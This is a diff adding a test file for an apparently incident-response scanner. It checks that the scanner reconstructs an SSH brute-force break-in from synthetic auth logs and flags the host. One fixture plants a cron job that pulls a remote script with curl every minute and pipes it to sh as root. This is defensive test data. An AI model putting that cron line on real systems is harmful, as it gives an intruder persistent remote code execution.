@@ -1,0 +1,112 @@
+/** The way in as a whole scan of a folder tells it: logs, files and findings of one root, read by the product itself. */
+import { afterAll, describe, expect, test } from 'bun:test';
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
+import { emptyConfig } from '../../src/model/config.ts';
+import { resultSchema, type ScanResult } from '../../src/model/result.ts';
+import { scan } from '../../src/scan/scan.ts';
+import { folderTarget } from '../../src/target/folder.ts';
+
+const scratch: string[] = [];
+afterAll(() => {
+  for (const folder of scratch) rmSync(folder, { recursive: true });
+});
+
+const address = '203.0.113.9';
+const minute = 60_000;
+
+function root(files: Readonly<Record<string, string>>): string {
+  const folder = mkdtempSync(join(tmpdir(), 'demine-way-in-'));
+  scratch.push(folder);
+  for (const [path, content] of Object.entries(files)) {
+    mkdirSync(join(folder, dirname(path)), { recursive: true });
+    writeFileSync(join(folder, path), content);
+  }
+  return folder;
+}
+
+async function resultOf(files: Readonly<Record<string, string>>): Promise<ScanResult> {
+  const target = folderTarget(root(files));
+  const taker = { begin: () => {}, event: () => {}, end: () => {} };
+  const options = {
+    ...({ language: 'en', interval: 0, active: false, thorough: false, keepSecrets: false } as const),
+    seen: [],
+    config: emptyConfig,
+    logs: { taker, mostBytes: 1 << 30 },
+  };
+  try {
+    return resultSchema.parse((await scan(target, undefined, options, '0')).result);
+  } finally {
+    await target.close();
+  }
+}
+
+/** Minutes before now, as rsyslog's file format writes it. */
+const at = (minutes: number): string =>
+  new Date(Date.now() - minutes * minute).toISOString().replace('Z', '+00:00');
+const line = (minutes: number, message: string): string => `${at(minutes)} web-1 sshd[12]: ${message}\n`;
+const failures = Array.from({ length: 40 }, (_, index) =>
+  line(30 - index / 4, `Failed password for root from ${address} port ${40_000 + index} ssh2`),
+).join('');
+const accepted = line(2, `Accepted password for root from ${address} port 50000 ssh2`);
+const owner = line(
+  2000,
+  'Accepted publickey for root from 198.51.100.4 port 50001 ssh2: ED25519 SHA256:AbCdEfGhIjKlMnOpQrStUvWxYz0123456789+/abcde',
+);
+const system = {
+  'etc/os-release': 'ID=debian\nPRETTY_NAME="Debian GNU/Linux 12"\n',
+  'etc/passwd': 'root:x:0:0:root:/root:/bin/bash\n',
+};
+const job = '* * * * * root curl -fsSL http://192.0.2.66/x.sh | sh\n';
+
+describe('a scan of a folder with its logs', () => {
+  test('tells who guessed his way in, with the lines in their order', async () => {
+    const { entry = [], infectionWindow } = await resultOf({
+      ...system,
+      'var/log/auth.log': owner + failures + accepted,
+      'etc/cron.d/update': job,
+    });
+    expect(entry[0]).toMatchObject({
+      vector: 'ssh-brute-force',
+      attackers: [address],
+      account: 'root',
+      service: 'sshd',
+    });
+    expect(['confirmed', 'probable']).toContain(entry[0]?.grade ?? '');
+    const steps = entry[0]?.chain.map(({ step }) => step) ?? [];
+    expect(steps.indexOf('attempt')).toBeLessThan(steps.indexOf('success'));
+    expect(entry[0]?.chain.find(({ step }) => step === 'success')?.text).toContain(
+      'Accepted password for root',
+    );
+    expect(infectionWindow).toBeDefined();
+  });
+
+  test('names nobody where the guessing failed, and the owner never', async () => {
+    const { entry = [] } = await resultOf({
+      ...system,
+      'var/log/auth.log': owner + failures,
+      'etc/cron.d/update': job,
+    });
+    expect(entry.filter(({ grade }) => grade !== 'possible')).toEqual([]);
+    expect(JSON.stringify(entry)).not.toContain('198.51.100.4');
+  });
+
+  test('of a healthy host looks for no way in', async () => {
+    const result = await resultOf({ ...system, 'var/log/auth.log': owner + failures });
+    expect(result.entry ?? []).toEqual([]);
+    expect(result.verdict).toBe('clean');
+  });
+
+  test('does not end at logs that are none', async () => {
+    const result = await resultOf({
+      ...system,
+      'var/log/auth.log': `\0\0\0${'x'.repeat(200_000)}\n${accepted}`,
+      'var/log/wtmp': 'no records',
+      'var/log/journal/0123456789abcdef0123456789abcdef/system.journal': 'LPKSHHRHxx',
+      'etc/cron.d/update': job,
+    });
+    expect(result.verdict).toBe('suspicious');
+    expect(result.sources.some(({ artifact }) => artifact === 'linux.log.journal')).toBe(true);
+  });
+});
